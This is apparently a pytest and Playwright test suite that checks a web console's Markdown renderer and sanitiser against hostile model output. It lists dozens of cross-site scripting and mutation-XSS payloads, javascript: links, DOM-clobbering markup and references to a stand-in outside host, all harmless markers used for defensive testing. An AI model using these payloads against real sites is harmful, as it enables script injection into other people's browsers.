"""What models write is hostile: Markdown and markup that want to run a script, ask elsewhere, or pretend to be the page."""

import re
import time

import pytest
from playwright.sync_api import expect
from support.programs import LIMIT_S

RENDER = """async ({ texts, how }) => {
  const { render, sanitize } = await import("./markdown.js");
  const place = document.createElement("section");
  place.id = "hostile";
  document.body.append(place);
  for (const text of texts) place.append(how === "markdown" ? render(text) : sanitize(text));
  await new Promise((resolve) => setTimeout(resolve, 20));
  const all = [...place.querySelectorAll("*")];
  const attributes = all.flatMap((one) => [...one.attributes].map((attribute) => [one.localName, attribute.name, attribute.value]));
  for (const one of all) for (const name of ["click", "mouseover", "focus", "error", "load", "toggle", "animationstart"]) {
    if (one.localName !== "a" && one.localName !== "button") one.dispatchEvent(new Event(name, { bubbles: true }));
  }
  await new Promise((resolve) => setTimeout(resolve, 10));
  return {
    tags: [...new Set(all.map((one) => `${one.namespaceURI}#${one.localName}`))],
    attributes, text: place.textContent, ran: window.ran ?? null,
    clobbered: [typeof document.cookie, typeof document.body, typeof window.hostile_name, typeof document.hostile_name],
  };
}"""
XHTML = "http://www.w3.org/1999/xhtml#"
TAGS = set(
    "p br hr h3 h4 h5 h6 strong em b i u s del mark sub sup kbd code pre blockquote ul ol li table thead tbody tr th td a "
    "img div span button bdi".split()
)
ATTRIBUTES = {
    "a": {"href", "title", "target", "rel"}, "img": {"src", "alt"}, "div": {"class"}, "span": {"class"}, "bdi": {"class"},
    "button": {"class", "type"}, "pre": {"class", "tabindex"}, "ol": {"start"}, "th": {"align"}, "td": {"align"},
}  # fmt: skip
COLOURS = re.compile(r"(hljs-[a-z_]+|[a-z]+_)( ([a-z]+_+))*")
"""Classes of the parts of code in colours."""
CLASSES = {"md-code", "md-bar", "md-table", "md-host", "", "button quiet small", "plain"}
PIXEL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
ELSEWHERE = "http://192.0.2.1/hostile"

MARKUP = [
    "<script>window.ran = 1</script>",
    "<SCRIPT SRC=//192.0.2.1/x.js></SCRIPT>",
    "<scr<script>ipt>window.ran = 1</scr</script>ipt>",
    "<script type=module>window.ran = 1</script>",
    '<script type="importmap">{"imports": {"preact": "data:text/javascript,window.ran=1"}}</script>',
    "<img src=x onerror='window.ran = 1'>",
    "<img src=x onerror=window.ran&#61;1>",
    "<img/src='x'/onerror='window.ran=1'//>",
    "<body onload='window.ran = 1'>",
    "<div onmouseover='window.ran = 1' onclick='window.ran=1'>over</div>",
    "<p tabindex=0 autofocus onfocus='window.ran=1'>x</p>",
    "<details open ontoggle='window.ran = 1'><summary>x</summary></details>",
    "<video src=x onerror='window.ran=1'></video><audio src=x onerror='window.ran=1'></audio>",
    f"<video poster={ELSEWHERE}><source src={ELSEWHERE}></video>",
    "<marquee onstart='window.ran=1'>x</marquee>",
    "<svg onload='window.ran = 1'><circle r=1></svg>",
    "<svg><script>window.ran = 1</script></svg>",
    "<svg><animate onbegin='window.ran=1' attributeName=x dur=1s>",
    f"<svg><use href='{ELSEWHERE}#x'/><image href='{ELSEWHERE}'/></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=window.ran=1>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;">',
    "<math><mi//xlink:href='data:x,<script>window.ran=1</script>'>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.ran=1 src>">',
    '<noscript><p title="</noscript><img src=x onerror=window.ran=1>"></noscript>',
    "<template><img src=x onerror=window.ran=1></template>",
    "<template shadowrootmode=open><script>window.ran=1</script></template>",
    "<title><img src=x onerror=window.ran=1></title><textarea><img src=x onerror=window.ran=1></textarea>",
    "<xmp><img src=x onerror=window.ran=1></xmp><plaintext>x",
    f"<iframe src='javascript:parent.ran=1'></iframe><iframe src={ELSEWHERE}></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    f"<object data={ELSEWHERE}></object><embed src={ELSEWHERE}><applet code=x></applet>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    "<meta http-equiv='Content-Security-Policy' content=\"default-src *\">",
    f"<base href='{ELSEWHERE}/'>",
    f"<link rel=stylesheet href={ELSEWHERE}.css><link rel=prefetch href={ELSEWHERE}>",
    f"<style>body {{ background: url({ELSEWHERE}) }} @import '{ELSEWHERE}';</style>",
    f"<p style='background: url({ELSEWHERE}); position: fixed; inset: 0'>x</p>",
    f"<table background={ELSEWHERE}><td background={ELSEWHERE}>x</table><body background={ELSEWHERE}>",
    f"<form action='{ELSEWHERE}'><input name=key><button formaction='javascript:window.ran=1'>Log in</button></form>",
    "<input autofocus onfocus='window.ran=1'><select onfocus='window.ran=1' autofocus><option>x</select>",
    "<a href='javascript:window.ran=1'>x</a><a href='JaVaScRiPt:window.ran=1'>x</a>",
    "<a href=' &#1; javascript:window.ran=1'>x</a><a href='java&#9;script&colon;window.ran=1'>x</a>",
    "<a href='java\nscript:window.ran=1'>x</a><a href='vbscript:x'>x</a><a href='data:text/html,<script>1</script>'>x</a>",
    f"<a href=https://a.example ping={ELSEWHERE} download target=_top rel=opener>x</a>",
    f"<img src={ELSEWHERE}><img srcset='{ELSEWHERE} 2x' src={PIXEL}><picture><source srcset={ELSEWHERE}></picture>",
    "<img src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=window.ran=1 />'>",
    "<img name=cookie id=hostile_name><a id=hostile_name><a id=hostile_name name=toString>x</a>",
    "<form name=body><input name=parentNode><input name=attributes><img name=hostile_name></form>",
    "<p id=app class='notice bad' role=alert data-connection=denied aria-label=x slot=x is=x>Your session has ended</p>",
    "<dialog open class=login><h1>Operator's key</h1><input type=password></dialog>",
    "<h1 class=x>Overview</h1><main>x</main><nav>x</nav><header class=bar>x</header>",
    "<custom-element onx=1>x</custom-element><x-y is=z>x</x-y>",
    "<!--><img src=x onerror=window.ran=1>--><!-- <!-- --!><img src=x onerror=window.ran=1>",
    "<![CDATA[<img src=x onerror=window.ran=1>]]><?xml <img src=x onerror=window.ran=1>?>",
    "<div popover id=p>x</div><button popovertarget=p onbeforetoggle=window.ran=1>x</button>",
    "<div style='animation-name:x' onanimationstart='window.ran=1'>x</div>",
    "\u003cscript\u003ewindow.ran=1\u003c/script\u003e\x00<scr\x00ipt>window.ran=1</scr\x00ipt>",
]
MARKDOWN = [
    "[x](javascript:window.ran=1) [x](JAVASCRIPT:window.ran=1) [x](javascript&colon;window.ran=1)",
    "[x](java\u0000script:window.ran=1) [x](\u0001javascript:window.ran=1) [x](&#x6A;avascript:window.ran=1)",
    "[x](<java script:window.ran=1>) [x](data:text/html;base64,PHNjcmlwdD4=) [x](vbscript:x) [x](file:///etc/passwd)",
    "[x](blob:http://127.0.0.1/x) [x](//192.0.2.1/x) [x](/v1/admin/keys) [x](#/keys) [x](?x) [x]()",
    '[x](https://a.example "\\" onmouseover=window.ran=1 x=\\"")',
    "[x](https://a.example/'onmouseover='window.ran=1) [x](https://a.example/\"onmouseover=\"window.ran=1)",
    "<javascript:window.ran=1> <https://a.example/<script>window.ran=1</script>>",
    "[x]: javascript:window.ran=1\n\n[x] [x][x] ![x]",
    f'![x]({ELSEWHERE}) ![x]({ELSEWHERE} "t") ![](//192.0.2.1/x) ![x][y]\n\n[y]: {ELSEWHERE}',
    '![x](javascript:window.ran=1) ![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=) !["onerror=window.ran=1](x)',
    '```"><img src=x onerror=window.ran=1>\n<script>window.ran=1</script>\n```',
    "```html' onmouseover='window.ran=1\nx\n```\n\n    <script>window.ran = 1</script>\n\n`<img src=x onerror=window.ran=1>`",
    "| <img src=x onerror=window.ran=1> | b |\n|---|:--:|\n| <script>window.ran=1</script> | [x](javascript:window.ran=1) |",
    "# <img src=x onerror=window.ran=1>\n\n> <svg onload=window.ran=1>\n\n- <iframe src=javascript:parent.ran=1>",
    "<kbd onclick=window.ran=1>x</kbd> <b style='color:red'>x</b> <br onload=window.ran=1>",
    "***<script>***window.ran=1***</script>***  \\<script>window.ran=1\\</script>",
    "&lt;script&gt;window.ran=1&lt;/script&gt; &#60;img src=x onerror=window.ran=1&#62;",
    "</div></section></main><script>window.ran=1</script>",
    "$$\\href{javascript:window.ran=1}{x}$$ {{constructor.constructor('window.ran=1')()}} ${window.ran=1}",
]


@pytest.fixture
def shown(make_site, page):
    """Render texts in a page of the console, and return what they have become; dialogs fail the test."""
    site = make_site()
    site.open(page, "models")
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    page.on("popup", lambda popup: pytest.fail(f"a window: {popup.url}"))
    before = page.url

    def show(how, *texts):
        found = page.evaluate(RENDER, {"texts": list(texts), "how": how})
        assert page.url == before
        assert len(page.frames) == 1
        return found

    yield show
    page.wait_for_timeout(300)  # for what comes late
    assert page.evaluate("window.ran ?? null") is None


def check(found):
    """Nothing ran, and nothing is there but harmless elements with harmless attributes."""
    assert found["ran"] is None
    assert found["clobbered"] == ["string", "object", "undefined", "undefined"]
    assert {tag.removeprefix(XHTML) for tag in found["tags"]} <= TAGS
    for tag, name, value in found["attributes"]:
        assert name in ATTRIBUTES.get(tag, ()), (tag, name, value)
        if name == "href":
            assert value.startswith(("http://", "https://", "mailto:")), value
        elif name == "src":
            assert value.startswith("data:image/png;base64,"), value
        elif name == "class":
            assert value in CLASSES or (tag == "span" and COLOURS.fullmatch(value)), value
    targets = [value for tag, name, value in found["attributes"] if (tag, name) == ("a", "target")]
    rels = [value for tag, name, value in found["attributes"] if (tag, name) == ("a", "rel")]
    links = [value for tag, name, value in found["attributes"] if (tag, name) == ("a", "href")]
    assert set(targets) <= {"_blank"}
    assert set(rels) <= {"noopener noreferrer nofollow"}
    assert len(targets) == len(rels) == len(links)


def test_hostile_answers_do_nothing(shown):
    """Scripts, handlers, links, pictures and frames of an answer: text at most. Nothing is asked of elsewhere."""
    found = shown("markdown", *MARKUP, *MARKDOWN)
    check(found)
    assert "<script>window.ran = 1</script>" in found["text"], "markup is shown as it was written"


def test_the_second_line_holds_alone(shown, context):
    """The same markup, were it not escaped before: what comes out of the sanitiser is harmless by itself.

    While the sanitiser parses it, the page's policy (the third line) refuses handlers and styles aloud.
    """
    context.watched.allowed.append("Content Security Policy")
    for text in MARKUP:
        check(shown("sanitize", text))
    check(shown("sanitize", "".join(MARKUP)))


def test_each_hostile_text_does_nothing_cut_anywhere(shown):
    """An answer is drawn while it comes: every beginning of every text is harmless, too."""
    for text in (*MARKUP, *MARKDOWN):
        check(shown("markdown", *[text[:end] for end in range(3, len(text), 4)]))


def test_text_that_takes_parsers_long_is_shown_as_text(shown):
    """Deep nesting and thousands of marks neither hang nor break the page: they are text."""
    texts = [
        ">" * 20_000 + "x", "[" * 50_000, "*a " * 20_000, "_a__b" * 10_000, "![" * 30_000, "<" * 50_000, "<b>" * 20_000,
        "\n".join(" " * number * 2 + "- a" for number in range(1500)), "`" * 30_000, "[a](" * 10_000, "x" * 300_000,
        "|" * 20_000 + "\n" + "|-" * 10_000, "<a " * 20_000, "a@" * 20_000, "[a" * 20_000 + "]" * 20_000,
        "\n".join("> " * (number % 300) + "- " * 20 for number in range(300)), "```a`b\n" + "_a__b" * 19_000,
        "- a\n  ```\n" + "_a__b" * 15_000,
    ]  # fmt: skip
    for text in texts:
        began = time.monotonic()
        check(shown("markdown", text))
        assert time.monotonic() - began < LIMIT_S, text[:20]


def test_good_markdown_looks_as_it_should(shown):
    """Headings, lists, tables, code and pictures are there, and a link says where it leads."""
    found = shown(
        "markdown",
        "# Title\n\n**bold** *it* ~~gone~~ `code` H<sub>2</sub>O<br>x\n\n3. three\n4. four\n\n- [x] done\n\n"
        "| a | b |\n|---|--:|\n| 1 | 2 |\n\n```python\nprint('<b>')\n```\n\n> said\n\n"
        f"[here](https://a.example/x) https://b.example [c.example](https://d.example@e.example) ![dot]({PIXEL}) "
        "![cat](https://f.example/cat.png) [mail](mailto:a@b.example)",
    )
    check(found)
    tags = {tag.removeprefix(XHTML) for tag in found["tags"]}
    assert {"h3", "strong", "em", "del", "code", "sub", "br", "ol", "ul", "table", "pre", "blockquote", "img"} <= tags
    assert ["ol", "start", "3"] in found["attributes"]
    assert ["td", "align", "right"] in found["attributes"]
    text = found["text"]
    assert "print('<b>')" in text
    assert "pythonCopy" in text
    assert "☑ done" in text
    assert "here a.example" in text
    assert "https://b.example c.example" in text
    assert "c.example e.example" in text
    assert "Picture: cat f.example" in text
    assert "mail a@b.example" in text


def test_code_has_colours_and_keeps_its_characters(shown, page):
    """The library and a language are loaded with the first block that needs them, and colour it."""
    asked = []
    page.on("request", lambda request: ".min.js" in request.url and asked.append(request.url.rpartition("/")[2]))
    shown("markdown", "```nothing\nx = 1\n```")
    assert not asked
    code = "def f(a):\n    return '<b>' + a  # <script>window.ran = 1</script>\n"
    shown("markdown", f"```python\n{code}```")
    expect(page.locator("#hostile .hljs-keyword").first).to_have_text("def")
    assert sorted(asked) == ["core.min.js", "python.min.js"]
    assert page.locator("#hostile code").last.text_content() == code.removesuffix("\n")
    found = shown("markdown", f"```python\n{code}```", f"```py\n{code * 200}```", "```python\n" + "a" * 400 + "\n```")
    check(found)
    assert len([value for _, name, value in found["attributes"] if name == "class" and value == "hljs-comment"]) == 1
    for text in (*MARKUP, *MARKDOWN):
        check(shown("markdown", f"````python\n{text}\n````", f"````html\n{text}\n````"))
    expect(page.locator("#hostile .hljs-tag").first).to_be_attached()


def test_code_without_the_library_has_no_colours(shown, page, context):
    """A file that does not arrive leaves the text as it was."""
    context.watched.allowed.append("core.min.js")
    page.route("**/core.min.js", lambda route: route.abort())
    with page.expect_request_finished(lambda request: "rust.min.js" in request.url):
        found = shown("markdown", "```rust\nfn main() {}\n```")
    check(found)
    assert "fn main() {}" in page.locator("#hostile").inner_text()
